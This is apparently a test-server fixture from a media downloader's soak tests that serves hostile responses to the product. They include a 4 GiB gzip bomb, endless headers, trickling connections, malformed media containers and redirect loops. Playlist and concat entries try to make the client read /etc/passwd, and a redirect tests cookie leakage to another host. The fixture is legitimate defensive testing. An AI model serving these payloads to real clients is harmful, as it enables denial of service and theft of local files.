import { deflateRawSync, constants } from 'node:zlib'
import { readFileSync } from 'node:fs'
import type { ServerResponse } from 'node:http'
import { setTimeout as sleep } from 'node:timers/promises'
import { html, redirect, text } from '../answers.ts'
import { mediaFile } from '../media.ts'
import type { Answer, Ask, Site } from '../site.ts'

// Hostile responses that try to crash, freeze, fill up or misuse the product.
// `tests/internet/soak/attacks.ts` lists the links that lead to these responses.

const HOST = 'attack.example'
/**
 * A host that does not belong to the attacker. The product must never send it the cookies of the attacker's
 * host (`HOST`).
 */
const OTHER_HOST = 'victim.example'
const STREAMS = 'https://streams.example'
const HLS = 'application/vnd.apple.mpegurl'
const MIB = 1024 ** 2

const raw =
  (bytes: string): Answer =>
  (_, response) =>
    void response.socket?.end(bytes)

const manifest = (duration: string) =>
  text(
    `<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="${duration}"><Period>
    <AdaptationSet mimeType="video/mp4"><Representation id="v" bandwidth="100000" width="640" height="360"
    codecs="avc1.4d401e"><BaseURL>https://cdn.example/combined-360.mp4</BaseURL></Representation></AdaptationSet>
    </Period></MPD>`,
    'application/dash+xml',
  )

const playlist = (lines: readonly string[]) => text(['#EXTM3U', ...lines, ''].join('\n'), HLS)
const segments = (links: readonly string[]) =>
  playlist(['#EXT-X-TARGETDURATION:4', ...links.flatMap((link) => ['#EXTINF:4,', link]), '#EXT-X-ENDLIST'])

/** Sends one byte per second until the client disconnects. */
async function trickle(response: ServerResponse): Promise<void> {
  while (!response.destroyed) {
    response.write('x')
    await sleep(1_000)
  }
}

/** Sends header lines until the client disconnects, as fast as the client reads. */
const endlessHeaders: Answer = async (_, response) => {
  const socket = response.socket!
  const lines = `x-flood: ${'y'.repeat(1_000)}\r\n`.repeat(64)
  socket.write('HTTP/1.1 200 OK\r\n')
  while (!socket.destroyed)
    if (!socket.write(lines))
      await new Promise((resolve) => socket.once('drain', resolve).once('close', resolve))
}

/**
 * Returns an Answer that sends correct headers for the requested range of a file, or for the whole file if
 * the request has no range. Then `send` writes the body.
 */
const ranged =
  (name: string, send: (response: ServerResponse, bytes: Buffer) => void): Answer =>
  (request, response) => {
    const file = readFileSync(mediaFile(name))
    const [, from = '0', to] = /^bytes=(\d+)-(\d*)$/.exec(request.headers.range ?? '') ?? []
    const bytes = file.subarray(Number(from), to ? Number(to) + 1 : file.length)
    response.writeHead(request.headers.range ? 206 : 200, {
      'content-type': 'video/mp4',
      'content-length': bytes.length,
      'content-range': `bytes ${from}-${Number(from) + bytes.length - 1}/${file.length}`,
    })
    if (request.method === 'HEAD') response.end()
    else send(response, bytes)
  }

/**
 * Sends the first 128 KiB of each response without delay, so that the merger can extract the link. After
 * that, sends one byte per second.
 */
export const dripping = ranged('moov-at-end.mp4', (response, bytes) => {
  response.write(bytes.subarray(0, 128 * 1024))
  void trickle(response)
})
/** Sends half of each requested range. After that, sends nothing, but keeps the connection open. */
const stalling = ranged('moov-at-end.mp4', (response, bytes) => {
  response.write(bytes.subarray(0, Math.ceil(bytes.length / 2)))
})

/**
 * A deflate block of 16 MiB of zeros. It ends with a full flush, so that several such blocks in a row form a
 * valid stream.
 */
let block: Buffer | undefined
/** A response with an HTML page that unpacks to 4 GiB. */
const bomb: Answer = (_, response) => {
  const packed = (block ??= deflateRawSync(Buffer.alloc(16 * MIB), { finishFlush: constants.Z_FULL_FLUSH }))
  const header = Buffer.from('1f8b0800000000000003', 'hex')
  response.writeHead(200, { 'content-type': 'text/html', 'content-encoding': 'gzip' })
  response.end(Buffer.concat([header, ...Array.from({ length: 256 }, () => packed)]))
}

const huge = html(
  `<!doctype html><title>${'T'.repeat(2 * MIB)}</title><meta property="og:title" content="${'界'.repeat(MIB)}">
  <meta property="og:description" content="${'D'.repeat(8 * MIB)}">
  <meta property="og:video" content="https://cdn.example/combined-360.mp4">`,
)

/** Returns the start of an MP4 that has an empty `mdat` box and two million empty boxes after it. */
const boxes = () => {
  const empty = Buffer.from('\0\0\0\bfree', 'latin1')
  const head = Buffer.from('\0\0\0\x10ftypisom\0\0\0\0\0\0\0\bmdat', 'latin1')
  return Buffer.concat([head, Buffer.alloc(2_000_000 * empty.length, empty)])
}

/** Tracks whose boxes claim to go on to the end of the file, in the bytes that a probe reads. */
const lyingTracks = () => {
  const box = (type: string, length: number) => {
    const head = Buffer.alloc(8)
    head.writeUInt32BE(length)
    head.write(type, 4, 'latin1')
    return head
  }
  const track = Buffer.concat([box('trak', 16), box('mdia', 0x7fffffff)])
  const tracks = Buffer.alloc(1_300 * track.length, track)
  return Buffer.concat([box('moov', 0x7fffffff), tracks, Buffer.alloc(80_000, box('free', 8))])
}

/** A film of few bytes, each of whose links goes up again thousands of times. */
const climbing = () => {
  const bases = Array.from({ length: 8 }, (_, n) => `<BaseURL>https://h${n}.example/</BaseURL>`).join('')
  const media = `${'a/../'.repeat(1_600)}$Number$`
  return `<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT3600S">${bases}<Period>
    <AdaptationSet mimeType="video/mp4"><Representation id="v" bandwidth="100000" width="640" height="360"
    codecs="avc1.4d401e"><SegmentTemplate media="${media}" duration="0.2" endNumber="18000"/></Representation>
    </AdaptationSet></Period></MPD>`
}

/** MP3 frame headers without frame data, after an empty ID3 tag. */
const frames = () =>
  Buffer.concat([
    Buffer.from('49443304000000000000', 'hex'),
    Buffer.alloc(8 * MIB, Buffer.from('fffb9000fffbe400fff31000', 'hex')),
  ])

const visits = new Map<string, number>()
/**
 * The first six requests get a valid video, so that the link can be extracted. Later requests get an HTML
 * page with the content type of a video.
 */
const turning = ({ path, query }: Ask): Answer => {
  const key = `${path}?${query.toString()}`
  const count = (visits.get(key) ?? 0) + 1
  visits.set(key, count)
  return count <= 6
    ? ranged('moov-at-end.mp4', (response, bytes) => response.end(bytes))
    : text('<!doctype html><title>Please log in</title><p>secret</p>', 'video/mp4')
}

/**
 * The Content-Range of the response states a range that the client did not request, and a file size of 4 GB.
 */
const lying: Answer = (_, response) => {
  response.writeHead(206, { 'content-type': 'video/mp4', 'content-range': 'bytes 7-1048575/4000000000' })
  response.end(readFileSync(mediaFile('combined-360.mp4')).subarray(0, 200_000))
}

const LOCAL_FILES = [
  'file:///etc/passwd',
  'concat:http://attack.example/concat.m3u8|file:///etc/passwd',
  'subfile,,start,0,end,0,,:/etc/passwd',
  '/etc/passwd',
]
const cookie = { 'set-cookie': 'attack=secret; Path=/' }

const answers: Record<string, (ask: Ask) => Answer> = {
  '/status-099': () => raw('HTTP/1.1 099 X\r\nContent-Length: 0\r\n\r\n'),
  '/status-000': () => raw('HTTP/1.1 000\r\n\r\n'),
  '/headers': () => endlessHeaders,
  '/infinite.mpd': () => manifest(`PT${'9'.repeat(400)}S`),
  '/keys.m3u8': () => text(`#EXTM3U\n${'#EXT-X-KEY:'.repeat(100_000)}`, HLS),
  '/manifests.mpd': () => text('<MPD '.repeat(200_000), 'application/dash+xml'),
  '/attributes': () => text(`<meta ${'a '.repeat(1_000_000)}`, 'text/html'),
  '/trickle': () => (_, response) => trickle(response.writeHead(200, { 'content-type': 'text/html' })),
  '/drip.mp4': () => dripping,
  '/stall.mp4': () => stalling,
  '/redirect': ({ query }) =>
    redirect(`http://${HOST}/redirect?n=${query.get('n') ?? ''}&round=${Number(query.get('round')) + 1}`),
  '/bomb': () => bomb,
  '/huge': () => huge,
  '/many-formats.m3u8': () =>
    playlist(
      Array.from({ length: 10_000 }, (_, n) => [
        `#EXT-X-STREAM-INF:BANDWIDTH=${100_000 + n},RESOLUTION=${16 + n}x${9 + n},CODECS="avc1.4d401f,mp4a.40.2"`,
        `${STREAMS}/plain/index.m3u8?n=${n}`,
      ]).flat(),
    ),
  '/many-links.m3u8': () => segments(Array.from({ length: 20_000 }, (_, n) => `s${n}.ts`)),
  '/boxes.mp4': () => text(boxes(), 'video/mp4'),
  '/tracks.mp4': () => text(lyingTracks(), 'video/mp4'),
  '/climbing.mpd': () => text(climbing(), 'application/dash+xml'),
  '/feeds': () => html(`<a href="${'/feed?'.repeat(300)}#">x</a>`.repeat(2_000)),
  '/frames.mp3': () => text(frames(), 'audio/mpeg'),
  '/turning.mp4': turning,
  '/lying.mp4': () => lying,
  '/files.m3u8': () => segments(LOCAL_FILES),
  '/concat.mp4': () => text(`ffconcat version 1.0\nfile '/etc/passwd'\n`, 'video/mp4'),
  '/cookies.m3u8': () => (request, response) => {
    response.setHeader('set-cookie', cookie['set-cookie'])
    return segments([`https://${OTHER_HOST}/segment.ts`, 's1.ts'])(request, response)
  },
  '/cookies.mp4': () =>
    text('', 'text/plain', 302, { ...cookie, location: `https://${OTHER_HOST}/video.mp4` }),
}

export const attack: Site = {
  hosts: [HOST, OTHER_HOST],
  answer(ask) {
    if (ask.host === OTHER_HOST || /\/s\d+\.ts$/.test(ask.path))
      return ranged('combined-360.mp4', (response, bytes) => response.end(bytes))
    return answers[ask.path]?.(ask)
  },
}
